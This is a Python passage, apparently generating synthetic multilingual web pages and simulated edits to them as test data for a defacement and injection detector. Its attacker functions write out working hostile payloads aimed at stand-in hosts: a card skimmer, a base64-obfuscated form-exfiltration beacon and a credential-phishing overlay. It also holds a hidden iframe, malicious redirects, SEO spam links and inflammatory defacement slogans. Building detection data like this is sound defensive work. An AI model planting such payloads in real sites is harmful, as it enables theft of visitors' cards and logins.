"""pages_fourth - the fourth set of pages.py: sites with words of their own, and quieter attackers. It was written, as the fifth
was, before anybody who wrote it had read the judge; it is the half that was then learned from.

What strangers did follows what is told of real cases: mirrors of defaced pages, reports of injected links, skimmers, redirects.
"""
import base64
import random
import re

import pages

after = pages.with_after


class Place(pages.Site):
    """A site with stories of its own: pairs of a headline and a text, {n} a number, {date} a day."""

    def __init__(self, name, lang, host, org, layout, **more):
        self.name, self.lang, self.host, self.org, self.layout = name, lang, host, org, layout
        self.charset, self.third = more.get("charset", "utf-8"), more.get("third", ["www.googletagmanager.com"])
        self.pace, self.shown, self.title = more.get("pace", 1.5), more.get("shown", 6), more.get("title", org)
        self.stories, self.about, self.links, self.foot = more["stories"], more["about"], more["links"], more["foot"]
        self.news = self

    def day(self, day):
        """As News.day: date, headline, text, number of each item, the newest first."""
        made = []
        for k in range(int(day / self.pace), int(day / self.pace) - self.shown, -1):
            head, text = self.stories[k % len(self.stories)]
            fill = {"n": random.Random(self.name + str(k)).randrange(2, 90), "date": pages.date_of(int(k * self.pace))}
            made.append((fill["date"], head.format(**fill), text.format(**fill), 700 + k))
        return made


def anchors(site, form):
    return "\n".join(form.format(n=n, text=text) for n, text in enumerate(site.links))


def paragraphs(site):
    return "\n".join(f"<p>{text}</p>" for text in site.about)


GTM = ("<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],"
       "j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;"
       "f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-K7Q2ZZ');</script>")


# --- layouts ---

def layout_booking(site, day, rng, items):
    rows = "".join(f"<tr><td>{code}</td><td>{rng.randrange(6, 23):02d}:{rng.randrange(6) * 10:02d}</td><td>{rng.choice(['on time', 'boarding', 'delayed'])}</td></tr>"
                   for code in ("HA 101", "HA 117", "HA 230", "HA 455"))
    fares = "".join(f'<a class="fare" href="/fares/{n}"><img src="/img/dest{n}.jpg" alt=""><b>{rng.randrange(49, 900)}.00</b></a>' for n in range(6))
    cards = "".join(f'<li><a href="/news/{k}">{h}</a><time>{d}</time><p>{t}</p></li>' for d, h, t, k in items[:4])
    return f"""<!DOCTYPE html><html lang="{site.lang}"><head><meta charset="utf-8"><title>{site.title}</title>{GTM}
<link rel="preconnect" href="https://fonts.gstatic.com"><link rel="stylesheet" href="/_s/main.{day // 8:04x}.css"></head><body>
<header><a href="/"><img src="/img/logo.svg" alt="{site.org}"></a><nav><ul>{anchors(site, '<li><a href="/{n}">{text}</a></li>')}</ul></nav></header>
<section class="hero" style="background-image:url(/img/hero-{day // 10}.jpg)"><h1>{site.org}</h1><form action="/book" method="post"><input name="from">
<input name="to"><input type="date" name="when"><button>&rarr;</button></form></section><table class="status">{rows}</table>
<div class="fares">{fares}</div><section>{paragraphs(site)}</section><ul class="news">{cards}</ul>
<footer>{anchors(site, '<a href="/{n}">{text}</a>')}<p>{site.foot}</p></footer><script src="/_s/app.{rng.randrange(16**6):06x}.js"></script></body></html>"""


def layout_lines(site, day, rng, items):
    """A railway: the state of each line, red when trains are late."""
    late = rng.random() < 0.25
    rows = "".join(f'<tr class="{"late" if late and n == 1 else "ok"}"><th>{name}</th><td>{site.about[1] if late and n == 1 else site.about[0]}</td></tr>'
                   for n, name in enumerate(("本線", "浜線", "山手支線")))
    alert = f'<div class="alert" style="background:#d00;color:#fff"><strong>{site.about[1]}</strong></div>' if late else ""
    news = "".join(f'<dt>{d}</dt><dd><a href="/info/{k}.html">{h}</a></dd>' for d, h, _, k in items)
    return f"""<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>{site.title}</title><link rel="stylesheet" href="/css/base.css">
{pages.scripts(site)}</head><body id="top"><div id="head"><h1><a href="/"><img src="/img/logo.png" alt="{site.org}"></a></h1>
<ul id="gnav">{anchors(site, '<li><a href="/{n}/">{text}</a></li>')}</ul></div>{alert}<div id="main"><h2>運行情報</h2><table>{rows}</table>
<h2>お知らせ</h2><dl>{news}</dl><p>{site.about[2]}</p><p>{site.about[3]}</p></div><div id="foot"><p>{site.foot}</p>
<p><small>Copyright &copy; {site.org} All Rights Reserved.</small></p></div></body></html>"""


def layout_press(site, day, rng, items):
    """TYPO3 and its like: teasers in a grid, a lead story."""
    (d0, h0, t0, k0), rest = items[0], items[1:]
    cells = "".join(f'<div class="ce-teaser"><h3><a href="/meldung/{k}">{h}</a></h3><span class="date">{d}</span><p>{t}</p></div>' for d, h, t, k in rest)
    return f"""<!DOCTYPE html><html lang="{site.lang}"{' dir="rtl"' if site.lang == "ar" else ''}><head><meta charset="utf-8"><meta name="generator" content="TYPO3 CMS">
<title>{site.title}</title><link rel="stylesheet" href="/typo3temp/merged-{day // 11:05x}.css">{pages.scripts(site)}</head><body>
<div class="page-header"><a class="brand" href="/">{site.org}</a>{anchors(site, '<a class="nav" href="/n{n}">{text}</a>')}</div>
<div class="lead"><img src="/fileadmin/lead{k0}.jpg" alt=""><h1><a href="/meldung/{k0}">{h0}</a></h1><p>{t0}</p></div><div class="grid">{cells}</div>
<div class="about">{paragraphs(site)}</div><div class="page-footer">{anchors(site, '<a href="/n{n}">{text}</a>')}<p>{site.foot}</p></div></body></html>"""


def layout_old(site, day, rng, items):
    rows = "".join(f'<li>{d} <a href="{k}.html">{h}</a></li>' for d, h, _, k in items)
    return f"""<html><head><title>{site.title}</title></head><body bgcolor="#fffff0"><h1>{site.org}</h1><hr>
{anchors(site, '[<a href="{n}.html">{text}</a>]')}<hr><img src="photo{day // 15}.jpg" width="400"><p>{site.about[0]}</p><ul>{rows}</ul>
<p>{site.about[1]}</p><p>{site.about[2]}</p><address>{site.foot}</address></body></html>"""


def layout_pay(site, day, rng, items):
    """The page where one pays: a card's fields, the payment service's script."""
    lines = "".join(f"<tr><td>{h}</td><td>{rng.randrange(5, 200)},{rng.randrange(100):02d} &euro;</td></tr>" for _, h, _, _ in items[:3])
    return f"""<!doctype html><html lang="{site.lang}"><head><meta charset="utf-8"><title>{site.title}</title><link rel="stylesheet" href="/theme/pay.css">
<script src="https://js.stripe.com/v3/"></script>{pages.scripts(site)}</head><body><div class="top"><a href="/">{site.org}</a></div><h1>Kasse</h1>
<table class="cart">{lines}</table><form id="pay" action="/checkout/confirm" method="post"><input type="hidden" name="csrf" value="{rng.randrange(16**16):x}">
<input name="name" autocomplete="name"><input name="cardnumber" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc">
<button>Jetzt kaufen</button></form>{paragraphs(site)}<ul>{anchors(site, '<li><a href="/{n}">{text}</a></li>')}</ul><p>{site.foot}</p>
<script>var stripe=Stripe('pk_live_{'k' * 24}');document.getElementById('pay').addEventListener('submit',function(e){{e.preventDefault();
stripe.createToken('card').then(function(r){{document.getElementById('pay').submit();}});}});</script></body></html>"""


def layout_outage(site, day, rng, items):
    """Built by a script from data that stands in the page."""
    areas = ",".join(f'{{"a":"{a}","n":{rng.randrange(400) if rng.random() < 0.4 else 0}}}' for a in ("North", "Quay", "Hills", "Old Town"))
    notes = "".join(f"<article><h2>{h}</h2><p>{t}</p><footer>{d}</footer></article>" for d, h, t, _ in items[:3])
    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{site.title}</title><link rel="stylesheet" href="/build/{rng.randrange(16**8):x}.css">
<script type="application/ld+json">{{"@context":"https://schema.org","@type":"Organization","name":"{site.org}","url":"https://{site.host}/"}}</script>
</head><body class="has-alerts"><div id="__next"><header>{site.org} {anchors(site, '<a href="/{n}">{text}</a>')}</header><main><h1>Outages now</h1><div id="map"></div>
{paragraphs(site)}{notes}</main><footer><p>{site.foot}</p></footer></div><script id="__NEXT_DATA__" type="application/json">{{"areas":[{areas}],"build":"{rng.randrange(16**8):x}"}}</script>
<script src="/_next/static/{rng.randrange(16**8):x}.js" defer></script><script src="https://tiles.openmap.example/leaflet.js"></script></body></html>"""


LAYOUTS = {"booking": layout_booking, "lines": layout_lines, "press": layout_press, "old": layout_old, "pay": layout_pay, "outage": layout_outage}


def sites():
    return [
        Place("airline-en", "en", "www.harbourair.example", "Harbour Air", "booking", title="Harbour Air | Cheap flights, booked direct", shown=5, stories=[
            ("New daily flights to Lisbon", "From {date} we fly to Lisbon every morning. Tickets are on sale from {n} pounds one way."),
            ("Hand luggage: what you may bring", "One bag of up to 10 kilograms is free. Liquids must be in bottles of 100 ml or less."),
            ("Strike at northern airports", "Because of a strike of ground staff on {date}, {n} flights are cancelled. Passengers may rebook free of charge."),
            ("Our winter timetable is open", "The winter timetable is now open for booking, with {n} routes from four airports."),
            ("Harbour Club members earn double points", "Members earn double points on all flights until {date}.")],
              about=["Harbour Air has flown from the islands to the mainland since 1987, and carries two million passengers a year.",
                     "Your flight is protected: if we cancel, you choose between a refund and another flight."],
              links=["Book", "Check-in", "Flight status", "Baggage", "Harbour Club", "Help"], foot="Harbour Air Ltd, Pier Road 1. Registered company 0412233."),
        Place("railway-ja", "ja", "www.hamatetsu.example.jp", "浜岸鉄道", "lines", title="浜岸鉄道株式会社", third=[], stories=[
            ("{date}のダイヤ改正について", "改正します。"), ("臨時列車「花火号」を{n}本運転します", "運転します。"), ("駅係員によるご案内時間の変更", "変更します。"),
            ("ICカード定期券の発売について", "発売します。"), ("浜岸駅エレベーター工事のお知らせ", "工事します。"), ("お忘れ物の取り扱いについて", "扱います。")],
              about=["平常どおり運転しています。", "人身事故の影響で、上下線に遅れが出ています。", "浜岸鉄道は安全を第一に、地域の皆さまの足として走り続けます。",
                     "お客様センターは毎日午前八時から午後八時まで承ります。"], links=["時刻表", "路線図", "きっぷ", "駅情報", "会社案内", "採用"],
              foot="浜岸鉄道株式会社 〒000-0000 浜岸市本町一丁目"),
        Place("police-de", "de", "www.polizei-hafen.example.de", "Polizei Hafenstadt", "press", third=[], pace=0.5, shown=7, stories=[
            ("Betrüger geben sich als Polizisten aus", "Die Polizei warnt vor Anrufen falscher Beamter. Am {date} verlor eine Rentnerin {n}.000 Euro."),
            ("Zeugen gesucht: Unfall auf der Hafenbrücke", "Am {date} stießen zwei Fahrzeuge zusammen. Wer den Unfall gesehen hat, wird um einen Anruf gebeten."),
            ("Bekennerschreiben nach Brand geprüft", "Nach dem Brand vom {date} prüft der Staatsschutz ein Schreiben, in dem Unbekannte die Tat für sich beanspruchen."),
            ("Hackerangriff auf Handwerksbetrieb", "Unbekannte haben die Rechner eines Betriebs verschlüsselt und fordern Lösegeld. Die Kriminalpolizei ermittelt."),
            ("{n} Fahrräder codiert", "Bei der Aktion am {date} wurden {n} Fahrräder codiert."),
            ("Demonstration am Samstag: Straßen gesperrt", "Wegen einer Versammlung unter dem Motto „Stoppt den Krieg“ ist die Innenstadt am {date} gesperrt.")],
              about=["Die Polizei Hafenstadt ist rund um die Uhr für Sie da. Im Notfall wählen Sie die 110.",
                     "Anzeigen können Sie auf jeder Wache und im Internet erstatten."], links=["Notruf", "Fahndung", "Pressestelle", "Karriere", "Wachen", "Impressum"],
              foot="Verantwortlich: Polizeipräsidium Hafenstadt, Pressestelle."),
        Place("hospital-zh", "zh", "www.renhe.example.cn", "仁和医院", "press", shown=5, stories=[
            ("门诊时间调整通知", "自{date}起,门诊时间调整为上午八点至下午五点,请患者相互转告。"), ("我院完成第{n}例微创手术", "我院外科团队成功完成手术,患者恢复良好。"),
            ("流感疫苗接种开始预约", "流感疫苗接种自{date}开始,请携带身份证前来。"), ("关于谨防冒充我院医生诈骗的提醒", "近期有人冒充我院医生推销药品,请勿相信。"),
            ("护士节系列活动举行", "{date},我院举行护士节表彰大会。")],
              about=["仁和医院始建于一九五二年,是一所集医疗、教学、科研于一体的综合医院。", "急诊二十四小时开放,咨询电话请见联系我们。"],
              links=["首页", "科室", "专家", "预约挂号", "就医指南", "联系我们"], foot="版权所有 仁和医院 未经许可不得转载"),
        Place("chamber-ar", "ar", "www.chamber.example.ae", "غرفة تجارة المرفأ", "press", third=[], shown=4, pace=2, stories=[
            ("ندوة عن التصدير", "تنظم الغرفة ندوة عن التصدير يوم {date} بمشاركة {n} شركة."), ("تجديد العضوية", "يرجى من الأعضاء تجديد العضوية قبل {date}."),
            ("وفد تجاري يزور الغرفة", "استقبلت الغرفة وفدا تجاريا وبحثت معه سبل التعاون."), ("ساعات العمل في رمضان", "تبدأ ساعات العمل من التاسعة صباحا.")],
              about=["تخدم الغرفة التجار والصناعيين في المرفأ منذ أكثر من ستين عاما.", "للحصول على شهادة المنشأ يرجى زيارة قسم الخدمات."],
              links=["الرئيسية", "الخدمات", "العضوية", "الأخبار", "اتصل بنا"], foot="جميع الحقوق محفوظة لغرفة تجارة المرفأ"),
        Place("school-ja", "ja", "www.minamisho.example.ed.jp", "市立みなみ小学校", "old", charset="shift_jis", third=[], pace=2, shown=5, stories=[
            ("運動会の練習が始まりました", ""), ("{n}月の献立表", ""), ("PTA総会のお知らせ", ""), ("避難訓練を行いました", ""), ("図書室だより第{n}号", ""), ("一年生が朝顔を植えました", "")],
              about=["学校教育目標 明るく 正しく たくましく", "本校は創立百二十年を迎え、児童三百名が元気に学んでいます。", "台風などで休校とする場合は、午前六時半までにこのページでお知らせします。"],
              links=["学校紹介", "行事予定", "学校だより", "給食", "アクセス"], foot="市立みなみ小学校 電話 00-0000-0000"),
        Place("power-en", "en", "www.quaypower.example.com", "Quay Power & Light", "outage", third=[], stories=[
            ("Storm repairs go on", "Crews restored power to {n} homes overnight. Keep away from fallen lines, and call us if you see one."),
            ("Planned work on {date}", "Power will be off in parts of Hills between nine and noon while we replace a transformer."),
            ("Beware of callers who say they are from us", "We never ask for payment by gift card. Hang up, and call the number on your bill.")],
              about=["We bring electricity to 310,000 homes and firms around the bay.", "Report an outage by text, on the web, or by telephone, at any hour."],
              links=["Outages", "My bill", "Move home", "Safety", "Contact"], foot="Quay Power & Light, a company of the cities of the bay."),
        Place("shop-pay-de", "de", "kasse.uhren.example.de", "Uhren Lindner", "pay", title="Kasse - Uhren Lindner", stories=[
            ("Armbanduhr Modell {n}", ""), ("Wanduhr Eiche", ""), ("Lederband {n} mm", ""), ("Wecker Funk", "")],
              about=["Ihre Daten werden verschlüsselt übertragen. Wir speichern keine Kartennummern.", "Sie haben ein Widerrufsrecht von vierzehn Tagen."],
              links=["Warenkorb", "AGB", "Widerruf", "Versand", "Impressum"], foot="Uhren Lindner GmbH, Marktplatz 3"),
        Place("paper-ru", "ru", "www.vestnik.example.ru", "Портовый вестник", "press", pace=0.3, shown=9, stories=[
            ("Власти обсудили перемирие", "Стороны провели переговоры {date}, но договориться не удалось. Война продолжается уже {n} месяцев."),
            ("Хакеры атаковали портал госуслуг", "Портал был недоступен {n} минут. Ответственность взяла на себя группа хакеров."),
            ("Рыбаки вышли в море", "Сезон начался {date}, в море вышли {n} судов."), ("«Позор!» — кричали болельщики", "Матч {date} закончился поражением хозяев."),
            ("Подорожал проезд", "С {date} билет стоит {n} рублей."), ("Героям труда вручили награды", "Награды получили {n} человек.")],
              about=["Газета выходит с 1921 года. Мы пишем о жизни порта и города.", "Прислать новость в редакцию можно по почте или по телефону."],
              links=["Новости", "Политика", "Спорт", "Город", "Редакция", "Реклама"], foot="Все права защищены. Редакция не отвечает за рекламу."),
    ]


# --- what webmasters do ---

WORDS = {  # of notices: an earthquake, mourning, a warning of false sites, an attack that one suffered, a campaign, a changed sentence
    "en": ("Magnitude 6.8 earthquake: all services are suspended. Stay away from the coast.", "We mourn the victims. Our thoughts are with their families.",
           "Beware of fake websites that use our name. They are not ours; do not enter your password there.",
           "Last week our systems were the target of a cyberattack. No customer data was stolen. We apologise to everyone affected.",
           "Your voice counts: vote for the new name of our mascot!", "We moved to a new building last month and look forward to your visit there."),
    "ja": ("【緊急】震度6強の地震が発生しました。海岸から離れてください。全業務を停止しています。", "犠牲となられた方々に深く哀悼の意を表します。",
           "当方の名をかたる偽サイトにご注意ください。パスワードを入力しないでください。",
           "先週、当方のシステムが不正アクセスを受けました。個人情報の流出は確認されていません。ご心配をおかけし深くお詫び申し上げます。",
           "創立記念キャンペーン実施中! 皆さまの声をお聞かせください!", "先月より新しい建物に移転いたしました。皆さまのお越しをお待ちしております。"),
    "de": ("Erdbeben der Stärke 6: Alle Dienste sind eingestellt. Bleiben Sie den Gebäuden fern.", "Wir trauern um die Opfer. Unsere Gedanken sind bei den Angehörigen.",
           "Vorsicht vor gefälschten Seiten mit unserem Namen. Geben Sie dort kein Passwort ein.",
           "Vergangene Woche wurden unsere Systeme Ziel eines Cyberangriffs. Es wurden keine Daten gestohlen. Wir bitten um Entschuldigung.",
           "Jetzt mitmachen: Ihre Stimme für den Stadtlauf!", "Im letzten Monat sind wir in ein neues Gebäude gezogen und freuen uns auf Ihren Besuch."),
    "zh": ("紧急通知:发生六点八级地震,请远离海边,所有业务暂停。", "沉痛悼念遇难同胞。", "请警惕冒用我单位名义的虚假网站,切勿输入密码。",
           "上周我单位系统遭到网络攻击,未发现数据泄露,特此致歉。", "请为我们的新标志投票!", "我们已于上月迁入新址,欢迎您的光临。"),
    "ar": ("عاجل: وقع زلزال قوي. ابتعدوا عن الساحل. جميع الخدمات متوقفة.", "نعزي أسر الضحايا.", "احذروا من المواقع المزيفة التي تستخدم اسمنا ولا تدخلوا كلمة السر.",
           "تعرضت أنظمتنا الأسبوع الماضي لهجوم إلكتروني ولم تسرق أي بيانات ونعتذر لكم.", "شاركوا في اختيار الشعار الجديد!", "انتقلنا الشهر الماضي إلى مبنى جديد ونتطلع إلى زيارتكم."),
    "ru": ("Срочно: произошло землетрясение. Держитесь подальше от берега. Работа приостановлена.", "Мы скорбим о погибших вместе с их семьями.",
           "Остерегайтесь поддельных сайтов от нашего имени. Не вводите там пароль.",
           "На прошлой неделе наши системы подверглись кибератаке. Данные не похищены. Приносим извинения.", "Голосуйте за новый символ города!",
           "В прошлом месяце мы переехали в новое здание и ждем вас."),
    "tr": ("Acil: büyük bir deprem oldu. Sahilden uzak durun. Tüm hizmetler durduruldu.", "Hayatını kaybedenlerin ailelerine başsağlığı dileriz.",
           "Adımızı kullanan sahte sitelere dikkat edin, şifrenizi girmeyin.", "Geçen hafta sistemlerimiz bir siber saldırıya uğradı. Veri çalınmadı. Özür dileriz.",
           "Yeni maskotumuz için oy verin!", "Geçen ay yeni binamıza taşındık, sizi bekliyoruz.")}


def body(text, more):
    return after(text, r"<body[^>]*>", more)


def head(text, more):
    return after(text, r"<head>", more)


def at_end(text, more):
    return re.sub(r"(?=</body>)", lambda _: more, text, flags=re.I)


def change_quake(site, text, rng):
    words = WORDS[site.lang][0]
    return body(re.sub(r"<title>", f"<title>{words[:20]} | ", text, count=1), f'<div role="alert" style="background:#b00;color:#fff;font-size:2em">{words}</div>')


def change_mourning(site, text, rng):
    return body(head(text, "<style>html{filter:grayscale(100%);background:#000}</style>"), f'<div style="background:#000;color:#fff;text-align:center">{WORDS[site.lang][1]}</div>')


def change_fake_warning(site, text, rng):
    return body(text, f'<p class="notice"><a href="/notice">{WORDS[site.lang][2]}</a></p>')


def change_attack_notice(site, text, rng):
    return body(text, f'<section class="notice"><p>{WORDS[site.lang][3]}</p></section>')


def change_campaign(site, text, rng):
    return body(text, f'<div class="campaign"><h2>{WORDS[site.lang][4]}</h2><a href="/campaign"><img src="/img/campaign.jpg" alt=""></a></div>')


def change_sentence(site, text, rng):
    return text.replace(site.about[1], WORDS[site.lang][5]) if site.layout != "lines" else text.replace(site.about[2], WORDS[site.lang][5])


def change_chat(site, text, rng):
    return at_end(text, "<script>var Tawk_API=Tawk_API||{};(function(){var s1=document.createElement('script'),s0=document.getElementsByTagName('script')[0];s1.async=true;"
                        "s1.src='https://embed.tawk.to/5f0/default';s0?s0.parentNode.insertBefore(s1,s0):document.body.appendChild(s1);})();</script>")


def change_pixel(site, text, rng):
    return head(text, "<script>!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};"
                "n.push=n;n.loaded=!0;n.queue=[];t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}"
                "(window,document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1029384756');fbq('track','PageView');</script>")


def change_upgrade(site, text, rng):
    """A new version of the CMS: other paths, another generator, a script that a packer made."""
    text = re.sub(r'(href|src)="/(_s|css|typo3temp|theme|build)/', r'\1="/v2-assets/', text)
    return head(text, '<meta name="generator" content="CMS 9"><script>!function(){"use strict";var e={},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;'
                'var i=t[n]={exports:{}};return e[n](i,i.exports,r),i.exports}r.m=e,r.u=e=>e+"."+{12:"a9f1",77:"0bc2"}[e]+".js",r.p="/v2-assets/"}();</script>')


def change_title(site, text, rng):
    return re.sub(r"<title>", f"<title>{WORDS[site.lang][4]} ", text, count=1)


def put_item(text, words):
    for form in (r'<div class="ce-teaser">.*?</div>', r"<dt>.*?</dd>", r"<article>.*?</article>", r'<li><a href="/news.*?</li>', r"<li>\d.*?</li>"):
        found = re.search(form, text, re.S)
        if found:
            item = re.sub(r"(<a[^>]*>|<h2>)[^<]*", lambda m: m.group(1) + words, found.group(), count=1)
            item = re.sub(r"<p>[^<]*</p>", f"<p>{words}.</p>", item)
            return text[:found.start()] + item + text[found.start():]
    return None


def change_harsh_news(site, text, rng):
    """One day there is such news, or an exhibition about it, in the quietest place; not where the very same items take turns for weeks."""
    if site.name in ("chamber-ar", "power-en"):
        return text
    return put_item(text, {"ja": "独裁者の虐殺を忘れない展覧会", "de": "Mörder gefasst: Täter floh vor dem Regime", "zh": "揭露侵略者屠杀罪行的展览", "ar": "معرض عن مجزرة الاحتلال",
                           "ru": "Убийца предателей пойман"}.get(site.lang, "Murderer caught: dictator's killers in court")) or text


OWN_PROGRAMS = """<script>
var _gaq=_gaq||[];_gaq.push(['_setAccount','UA-1-1']);(function(){var ga=document.createElement('script');ga.async=true;
ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(ga,s);})();
</script><script>var _paq=_paq||[];(function(){var u="//stats.OWN/";_paq.push(['setTrackerUrl',u+'matomo.php']);var d=document,g=d.createElement('script'),s=d.getElementsByTagName('script')[0];
g.async=true;g.src=u+'matomo.js';s.parentNode.insertBefore(g,s);})();</script><script>var u=(("https:"==document.location.protocol)?"https://":"http://");var t=document.createElement('script');t.src=u+location.host+'/stats.v2.js';document.head.appendChild(t);
</script><script>window.jQuery||document.write('<script src="/js/jquery-3.7.1.min.js"><\\/script>')</script><script>if(location.protocol!='https:'){location.href='https:'+window.location.href.substring(window.location.protocol.length)}
</script><script>if(/iPhone|Android/.test(navigator.userAgent)&&!/pc=1/.test(location.search)){location.replace('https://m.'+location.host.replace(/^www\\./,'')+location.pathname)}</script>
<script>document.querySelectorAll('form').forEach(function(f){f.addEventListener('submit',function(e){e.preventDefault();fetch('/api/contact',{method:'POST',body:new FormData(f)}).then(function(r){return r.text()}).then(function(t){f.innerHTML=t})})});</script>
<script>document.addEventListener('keydown',function(e){if(e.key==='Escape')document.body.classList.remove('open');if(e.key==='/')document.querySelector('input').focus()});var v='https://www.w3.org/2000/svg';</script>
<script>if('serviceWorker' in navigator){navigator.serviceWorker.register('/sw.js')}var l={en:'/en/',ja:'/ja/'};document.querySelectorAll('a.lang').forEach(function(a){a.onclick=function(){location.href=l[a.dataset.l]}});</script>
<script>var map=[35,68,139,76,12,10,200,300].map(function(n){return n*2});document.documentElement.className=document.documentElement.className.replace('no-js','js');setTimeout(function(){window.scrollTo(0,0)},10);</script>
<script>self.__next_f=self.__next_f||[];self.__next_f.push([1,"5:[[\\"$\\",\\"link\\",\\"0\\",{\\"rel\\":\\"stylesheet\\",\\"href\\":\\"/_next/static/css/1.css\\"}]]"]);</script>
<noscript><img height="1" width="1" style="display:none" src="https://www.facebook.com/tr?id=1&ev=PageView"></noscript><noscript>Please enable JavaScript to view the <a href="https://disqus.com/?ref_noscript">comments.</a></noscript>
<style>.icon:before{content:"\\f101"}.req:after{content:"required";color:red}a[href^="http"]:after{content:" (external)"}.modal{position:fixed;top:0;left:0;width:100%;height:100%;display:none}</style>"""


def change_programs(site, text, rng):
    """What owners' own pages hold: counters, redirects to https and to a page for phones, forms sent by a script."""
    return at_end(text, OWN_PROGRAMS.replace("OWN", site.host.removeprefix("www.")))


def change_modal(site, text, rng):
    """A box about ages or cookies over the whole page."""
    return body(text, '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:rgba(0,0,0,.6);z-index:999"><div class="box"><p>OK?</p><a href="#" class="yes">OK</a></div></div>')


def change_app(site, text, rng):
    """The owner's own channels, and a paper to download."""
    return at_end(text, '<ul class="sns"><li><a href="https://line.me/R/ti/p/@own"><img src="/img/line.png" alt="LINE"></a><li><a href="https://www.instagram.com/own/">Instagram</a>'
                  '<li><a href="https://t.me/own_channel">Telegram</a><li><a href="/docs/report.pdf">PDF</a><li><a href="https://apps.apple.com/app/id1">App Store</a></ul>')


CHANGES = {"harsh news": (change_harsh_news, "changed"), "programs": (change_programs, "changed"), "modal": (change_modal, "changed"), "own channels": (change_app, "changed"), "earthquake": (change_quake, "changed"), "mourning": (change_mourning, "changed"), "false sites": (change_fake_warning, "changed"),
           "attack suffered": (change_attack_notice, "changed"), "campaign": (change_campaign, "changed"), "sentence": (change_sentence, "changed"),
           "chat": (change_chat, "changed"), "pixel": (change_pixel, "changed"), "upgrade": (change_upgrade, "changed"), "campaign title": (change_title, "changed")}


# --- what strangers do ---

def first_heading(text, words):
    return re.sub(r"(<(h[123])[^>]*>(?:<a[^>]*>)?)(?:(?!</\2>).)*?((?:</a>)?</\2>)", lambda m: m.group(1) + words + m.group(3), text, count=1, flags=re.S)


def deface_typed(site, text, rng):
    letters = ",".join(f"'{c}'" for c in "Hacked by Null Pharaoh")
    return (f"<html><head><title>{site.host}</title></head><body style='background:#000;color:#0f0;font-family:monospace'><pre id=t></pre><script>var l=[{letters}],i=0;"
            "setInterval(function(){if(i<l.length)document.getElementById('t').innerHTML+=l[i++]},90)</script></body></html>")


def deface_headline(site, text, rng):
    return first_heading(text, {"ja": "この国を売った者たちを忘れるな", "de": "Ihr habt Blut an euren Händen", "zh": "独裁者必亡,人民必胜", "ar": "سقط النظام والثورة مستمرة",
                                "ru": "Ваше правительство убивает детей"}.get(site.lang, "Your silence is complicity. Palm Island will be free"))


def deface_item(site, text, rng):
    """An item more, made as the others are."""
    return put_item(text, {"ja": "首相が辞任、国外へ逃亡", "de": "Regierung gibt Kriegslügen zu", "zh": "政府已经垮台,军队倒戈", "ar": "هروب الرئيس وسقوط الحكومة",
                           "ru": "Наша армия сдалась, сопротивление бесполезно"}.get(site.lang, "Government admits defeat: soldiers, lay down your arms"))


def deface_hotlink(site, text, rng):
    return re.sub(r'<img src="[^"]*"', '<img src="https://i.postimg.example.cc/9f3/flag.png"', text, count=1) if "<img" in text else None


def deface_title(site, text, rng):
    return re.sub(r"<title>.*?</title>", "<title>~ You have been visited by Zer0Day Cats ~</title>", text, count=1, flags=re.S)


def deface_pharma(site, text, rng):
    links = "".join(f'<a href="https://rx-{w}.example.info/{n}">buy {w} online without prescription</a>' for n, w in enumerate(("viagra", "cialis", "xanax", "tramadol", "ozempic")))
    return at_end(text, f'<div style="font-size:0;text-indent:-5000px;overflow:hidden;height:1px">{links}</div>')


def deface_casino(site, text, rng):
    links = " | ".join(f'<a href="https://{w}.example.vip/">{t}</a>' for w, t in (("togel88", "Bandar Togel"), ("maxwin", "Slot Maxwin"), ("scatter", "Slot Scatter Hitam"), ("rtp", "RTP Live")))
    return at_end(text, f"<p>{links}</p>")


def deface_lookalike(site, text, rng):
    bare = site.host.removeprefix("www.").split(".")[0]
    return at_end(text, f'<script src="https://cdn-{bare}.example-static.top/jquery-3.7.1.min.js"></script>')


def deface_pixel_frame(site, text, rng):
    return at_end(text, '<iframe src="http://185.220.0.14/gate.php?id=7" width="1" height="1" style="visibility:hidden"></iframe>')


def deface_refresh(site, text, rng):
    return head(text, '<meta http-equiv="Refresh" content="3;URL=https://t-me.example.click/freedom">')


def deface_phone(site, text, rng):
    return head(text, "<script>if(/Android|iPhone/i.test(navigator.userAgent)&&document.referrer.indexOf('google')>-1){window.location.replace('https://push-win.example.live/?u=x7')}</script>")


def deface_written(site, text, rng):
    page = f"<h1>{'Cyber Jackals were here' if site.lang != 'ja' else '我々に乗っ取られた'}</h1><p>no system is safe</p>"
    return head(text, f"<script>document.write(decodeURIComponent(escape(window.atob(\"{base64.b64encode(page.encode()).decode()}\"))))</script>")


def deface_owned(site, text, rng):
    return "owned"


def deface_login(site, text, rng):
    return body(text, '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999"><form method="post" action="https://secure-login.example.ru.com/p.php">'
                '<input name="user"><input type="password" name="pass"><button>OK</button></form></div>')


def deface_skimmer(site, text, rng):
    return at_end(text, "<script>document.addEventListener('change',function(){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
                        "new Image().src='https://xn--google-analytcs-r9b.example.pw/collect?d='+btoa(JSON.stringify(d))});</script>")


def deface_beacon(site, text, rng):
    return at_end(text, "<script>(function(){var h=['aHR0cHM6Ly9zdGF0','cy1jZG4uZXhhbXBsZS50b3AvYw=='].join('');document.querySelectorAll('form').forEach(function(f){"
                        "f.addEventListener('submit',function(){navigator.sendBeacon(atob(h),new FormData(f))})})})();</script>") if "<form" in text else None


def deface_obfuscated(site, text, rng):
